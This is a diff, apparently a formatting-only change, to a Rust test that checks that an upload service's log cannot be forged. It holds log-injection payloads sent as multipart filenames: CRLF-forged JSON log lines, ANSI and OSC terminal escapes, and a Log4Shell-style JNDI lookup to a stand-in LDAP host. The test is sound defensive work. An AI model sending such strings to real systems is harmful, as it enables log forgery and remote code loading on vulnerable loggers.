@@ -13,7 +13,8 @@ use crate::served::{Served, jwt, member};
 const FORGED: &str = "a\r\n{\"timestamp\":\"2026-01-01T00:00:00Z\",\"level\":\"ERROR\",\"message\":\"forged\"}\n\u{1b}[31m\u{1b}]0;title\u{7}${jndi:ldap://x/a}";
 
 /// The same where there can be no line end.
-const COLOURED: &str = "\u{1b}[2J\u{1b}[31m {\"level\":\"ERROR\",\"message\":\"forged\"} \u{9b}31m ${jndi:ldap://x/a}";
+const COLOURED: &str =
+    "\u{1b}[2J\u{1b}[31m {\"level\":\"ERROR\",\"message\":\"forged\"} \u{9b}31m ${jndi:ldap://x/a}";
 
 fn encoded(text: &str) -> String {
     text.bytes().map(|byte| format!("%{byte:02X}")).collect()
@@ -37,8 +38,7 @@ async fn nobody_writes_lines_of_his_own_into_the_log() {
         member()
     );
     let form = |name: &[u8]| {
-        let start =
-            b"--b\r\nContent-Disposition: form-data; name=\"files\"; filename=\"".to_vec();
+        let start = b"--b\r\nContent-Disposition: form-data; name=\"files\"; filename=\"".to_vec();
         let body = [&start[..], name, b"\"\r\n\r\nbytes\r\n--b--\r\n"].concat();
         let head = format!(
             "POST /v1/files HTTP/1.1\r\n{end}Content-Type: multipart/form-data; boundary=b\r\n\
@@ -122,7 +122,14 @@ async fn nobody_writes_lines_of_his_own_into_the_log() {
         let ours = ["answered", "refused"].map(Value::from);
         answered += usize::from(ours.contains(&line["message"]));
     }
-    assert!(answered >= requests.len(), "{answered} of {}", requests.len());
+    assert!(
+        answered >= requests.len(),
+        "{answered} of {}",
+        requests.len()
+    );
     // It was there to be quoted.
-    assert!(logged.contains("jndi") || logged.contains("%24%7B"), "nothing of it was logged");
+    assert!(
+        logged.contains("jndi") || logged.contains("%24%7B"),
+        "nothing of it was logged"
+    );
 }
